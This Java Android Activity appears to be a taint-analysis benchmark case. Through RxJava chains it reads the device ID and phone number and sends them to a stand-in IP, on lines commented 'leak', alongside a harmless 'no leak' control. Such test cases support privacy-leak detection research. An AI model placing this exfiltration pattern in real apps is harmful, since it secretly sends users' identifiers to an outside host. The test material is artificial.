package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import io.reactivex.Observable;
import io.reactivex.Single;
import io.reactivex.schedulers.Schedulers;
import java.net.URL;
import java.util.concurrent.TimeUnit;

/** Chains. */
public class Rx extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        Observable.fromCallable(() -> phone.getDeviceId())
            .map(id -> "id=" + id)
            .delay(1, TimeUnit.SECONDS)
            .subscribeOn(Schedulers.io())
            .observeOn(Schedulers.computation())
            .subscribe(this::send, Throwable::printStackTrace);
        Single.zip(Single.just(phone.getLine1Number()), Single.just("x"), (a, b) -> a + b)
            .flatMap(one -> Single.just(one + "."))
            .doOnSuccess(this::sendToo)
            .subscribe();
        Observable.interval(1, TimeUnit.MINUTES).map(n -> "tick " + n).subscribe(this::tick);
    }

    private void send(String what) throws Exception {
        new URL("http://203.0.113.3/s/" + what).openStream(); // leak
    }

    private void sendToo(String what) throws Exception {
        new URL("http://203.0.113.3/t/" + what).openStream(); // leak
    }

    private void tick(String what) throws Exception {
        new URL("http://203.0.113.3/u/" + what).openStream(); // no leak
    }
}
